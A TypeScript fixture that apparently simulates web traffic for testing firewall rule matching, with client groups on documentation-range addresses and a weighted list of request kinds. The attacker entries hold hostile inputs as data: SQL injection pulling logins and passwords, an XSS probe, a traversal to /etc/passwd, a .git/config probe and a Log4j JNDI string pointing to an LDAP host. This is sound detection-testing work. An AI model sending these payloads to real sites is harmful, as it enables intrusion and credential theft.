import {owaspParts} from '../rulesets/owasp-table.ts';
import {deriveId, deriveRuleId} from '../waf/catalogue.ts';

/** A client that sends requests. Its address and network are reserved for documentation. */
export type RequestClient = {
	readonly ip: string;
	readonly country: string;
	readonly asn: number;
	readonly network: string;
	readonly agent: string;
};

/** The managed rules that a request trips, by id. */
export type TrippedRules = {
	/** Rules with their own action; they have the same ids in the previous and the new version. */
	readonly rules?: readonly string[];
	/** Rules of the previous OWASP package; each scores 20 points. */
	readonly previousScoringRules?: readonly string[];
	/** Rules of the new OWASP ruleset; each scores 5 points. */
	readonly scoringRules?: readonly string[];
};

export type RequestKind = {
	/** Relative frequency of this kind among random requests. */
	readonly share: number;
	/** Additional requests in a busy minute; at least one in every minute. */
	readonly extraPerMinute?: number;
	readonly clientGroup: keyof typeof requestClients;
	readonly method?: string;
	/** The subdomain of the zone. */
	readonly subdomain?: string;
	/** An asterisk stands for a word that depends on the client. */
	readonly path: string;
	readonly query?: string;
	readonly agent?: string;
	/** The path of the referring page. */
	readonly referer?: string;
	readonly isUnencrypted?: true;
	readonly trippedRules?: TrippedRules;
};

export const pathWords = ['lamp', 'kettle', 'tent', 'guitar', 'desk', 'rucksack', 'novel', 'spade'] as const;

const firefox = 'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0';
const chrome =
	'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36';
const phone =
	'Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/19.1 Mobile/15E148 Safari/604.1';

function createVisitor(ip: string, country: string, asn: number, agent: string): RequestClient {
	return {ip, country, asn, network: `EXAMPLE-NET-${asn - 64_495}`, agent};
}

export const requestClients = {
	visitors: [
		createVisitor('192.0.2.11', 'DE', 64_496, chrome),
		createVisitor('192.0.2.38', 'DE', 64_496, phone),
		createVisitor('192.0.2.75', 'FR', 64_497, firefox),
		createVisitor('192.0.2.102', 'GB', 64_498, chrome),
		createVisitor('192.0.2.144', 'NL', 64_499, phone),
		createVisitor('192.0.2.171', 'US', 64_500, chrome),
		createVisitor('192.0.2.203', 'US', 64_500, phone),
		createVisitor('192.0.2.230', 'PL', 64_501, firefox),
		createVisitor('2001:db8:1::51', 'DE', 64_496, chrome),
		createVisitor('2001:db8:2::9c', 'SE', 64_502, firefox),
		createVisitor('2001:db8:3::17', 'ES', 64_503, phone),
		createVisitor('2001:db8:4::e2', 'TR', 64_504, chrome),
	],
	office: [
		createVisitor('203.0.113.20', 'DE', 64_505, firefox),
		createVisitor('203.0.113.21', 'DE', 64_505, chrome),
		createVisitor('2001:db8:40::7', 'DE', 64_505, chrome),
	],
	editors: [
		createVisitor('192.0.2.52', 'DE', 64_496, chrome),
		createVisitor('192.0.2.118', 'NL', 64_499, firefox),
		createVisitor('2001:db8:5::31', 'GB', 64_498, chrome),
	],
	partners: [
		createVisitor('198.51.100.70', 'AT', 64_506, 'acme-partner/2.4'),
		createVisitor('198.51.100.81', 'CH', 64_507, 'Java/1.8.0_292'),
	],
	monitors: [createVisitor('198.51.100.7', 'IE', 64_508, 'acme-monitor/1.9')],
	crawlers: [
		createVisitor('198.51.100.130', 'US', 64_509, 'Mozilla/5.0 (compatible; ExampleBot/2.1)'),
		createVisitor('198.51.100.131', 'US', 64_509, 'BadBot/1.0'),
		createVisitor('198.51.100.132', 'SG', 64_510, 'Python scrapy/2.11'),
	],
	attackers: [
		createVisitor('198.51.100.201', 'SG', 64_510, 'sqlmap/1.8.2#stable'),
		createVisitor('198.51.100.214', 'BR', 64_511, 'Mozilla/5.00 (Nikto/2.5.0)'),
		createVisitor('198.51.100.222', 'US', 64_500, 'Go-http-client/1.1'),
		createVisitor('2001:db8:bad::66', 'VN', 64_510, 'curl/8.9.1'),
		createVisitor('198.51.100.239', 'AQ', 64_511, ''),
	],
} satisfies Readonly<Record<string, readonly RequestClient[]>>;

/** Returns the ids of the first `count` rules of a part of the new OWASP ruleset. */
function listScoringRules(kind: string, count: number): readonly string[] {
	const part = owaspParts.find(candidate => candidate.kind === kind);
	return (part?.rules ?? []).slice(0, count).map((_, index) => {
		return deriveId(`owasp rule ${(part?.firstNumber ?? 0) + index * 10}`);
	});
}

const sqlInjection: TrippedRules = {
	rules: [deriveRuleId('Platform Specials', 2)],
	previousScoringRules: ['981231', '981232', '981301'],
	scoringRules: listScoringRules('sqli', 24),
};
const log4j = deriveId('managed rule Apache Log4j Remote Code Execution (Header)');

/**
 * A legitimate request that looks like an attack: templates in an import contain `${…}`, which a rule takes
 * for a Log4j look-up. Only the new managed rules have this rule.
 */
const falsePositive = {
	path: '/api/import',
	rule: deriveId('managed rule Apache Log4j Remote Code Execution (Body)'),
} as const;

/** All kinds of requests; bursts repeat the first one. */
export const requestKinds: readonly RequestKind[] = [
	{
		share: 3,
		clientGroup: 'attackers',
		path: '/products',
		query: 'id=1%27%20UNION%20SELECT%20login,password%20FROM%20users--',
		trippedRules: sqlInjection,
	},
	{share: 40, clientGroup: 'visitors', path: '/'},
	{share: 60, clientGroup: 'visitors', path: '/products/*', referer: '/'},
	{share: 24, clientGroup: 'visitors', path: '/search', query: 'q=garden'},
	{share: 18, clientGroup: 'visitors', path: '/cart', referer: '/products'},
	{share: 8, clientGroup: 'visitors', method: 'POST', path: '/login', referer: '/login'},
	{share: 6, clientGroup: 'visitors', method: 'POST', path: '/checkout', referer: '/cart'},
	{share: 10, clientGroup: 'visitors', path: '/account/orders', referer: '/account'},
	{share: 1, clientGroup: 'visitors', path: '/account', isUnencrypted: true},
	{share: 20, clientGroup: 'visitors', path: '/api/v2/stock/*', subdomain: 'api'},
	{share: 4, clientGroup: 'visitors', path: '/old/*', query: 'utm_source=winter'},
	{share: 8, clientGroup: 'office', path: '/admin/orders'},
	{share: 3, clientGroup: 'office', path: '/internal/reports'},
	{share: 3, clientGroup: 'office', method: 'POST', path: '/upload/photos'},
	{share: 6, clientGroup: 'monitors', path: '/health'},
	{share: 8, clientGroup: 'crawlers', path: '/products/*'},
	{share: 4, clientGroup: 'partners', path: '/feed/prices.xml'},
	{
		share: 0,
		extraPerMinute: 3,
		clientGroup: 'editors',
		method: 'POST',
		path: falsePositive.path,
		referer: '/admin/import',
		trippedRules: {rules: [falsePositive.rule], scoringRules: listScoringRules('rce', 2)},
	},
	{
		share: 0,
		extraPerMinute: 1,
		clientGroup: 'partners',
		method: 'POST',
		path: '/partner/orders',
		trippedRules: {previousScoringRules: ['960008', '960911', '960912']},
	},
	{share: 1, clientGroup: 'partners', method: 'DELETE', subdomain: 'api', path: '/api/v1/orders/*'},
	{share: 1, clientGroup: 'partners', path: '/api/v1/export/2026001'},
	{
		share: 2,
		clientGroup: 'attackers',
		path: '/search',
		query: 'q=%3Cscript%3Ealert(1)%3C/script%3E',
		trippedRules: {
			rules: [deriveRuleId('Platform Specials', 7)],
			previousScoringRules: ['973400', '973301', '973402'],
			scoringRules: listScoringRules('xss', 14),
		},
	},
	{
		share: 2,
		clientGroup: 'attackers',
		path: '/download',
		query: 'file=../../../../etc/passwd',
		trippedRules: {rules: [deriveRuleId('Platform Specials', 32)], scoringRules: listScoringRules('lfi', 5)},
	},
	{
		share: 2,
		clientGroup: 'attackers',
		path: '/wp-admin/admin-ajax.php',
		method: 'POST',
		trippedRules: {rules: [deriveRuleId('Platform WordPress', 34)]},
	},
	{
		share: 1,
		clientGroup: 'attackers',
		path: '/wp-content/plugins/upload.php',
		method: 'POST',
		trippedRules: {rules: [deriveRuleId('Platform WordPress', 3)]},
	},
	{share: 1, clientGroup: 'attackers', path: '/wp-login.php', method: 'POST'},
	{share: 1, clientGroup: 'attackers', path: '/xmlrpc.php', method: 'POST'},
	{
		share: 1,
		clientGroup: 'attackers',
		path: '/index.php',
		query: 'GLOBALS[x]=1',
		trippedRules: {rules: [deriveRuleId('Platform PHP', 2)]},
	},
	{
		share: 1,
		clientGroup: 'attackers',
		path: '/user/register',
		method: 'POST',
		trippedRules: {rules: [deriveRuleId('Platform Drupal', 10)]},
	},
	{
		share: 2,
		clientGroup: 'attackers',
		path: '/.git/config',
		trippedRules: {
			rules: [deriveRuleId('Requested Bots', 2)],
			previousScoringRules: ['990002', '990003', '990004'],
		},
	},
	{
		share: 2,
		clientGroup: 'attackers',
		path: '/',
		agent: '$\u007bjndi:ldap://198.51.100.222/a}',
		trippedRules: {rules: [log4j]},
	},
	{share: 1, clientGroup: 'attackers', path: '/admin'},
];
